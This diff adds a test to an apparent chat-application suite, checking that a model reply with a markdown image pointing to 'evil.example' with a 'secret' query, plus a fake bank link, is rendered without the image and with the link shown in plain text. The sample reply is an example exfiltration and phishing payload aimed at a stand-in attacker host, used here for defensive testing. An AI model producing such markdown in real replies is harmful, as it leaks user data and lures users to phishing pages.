@@ -185,6 +185,15 @@ async def test_code_left_open_by_a_failure_is_closed_before_the_sentence(config:
         assert (await room.ask("Hello")).text == "```python\nprint(\n```\n\nThe model was cut off."
 
 
+async def test_a_picture_from_elsewhere_is_neither_shown_nor_remembered(config: Config, store: Store) -> None:
+    said = "Here: ![look](https://evil.example/?q=secret) and [your bank](https://evil.example/login)"
+    async with Room(config, store, model=ScriptedModel(said)) as room:
+        seen = (await room.ask("Hello")).text
+        assert seen == "Here: look and your bank (https://evil.example/login)"
+        await room.ask("Again")
+        assert room.model.asked[-1][2].text == seen
+
+
 async def test_an_empty_answer_is_never_an_empty_message(config: Config, store: Store) -> None:
     async with Room(config, store, model=ScriptedModel("")) as room:
         assert (await room.ask("Hello")).text == NOTHING_SAID
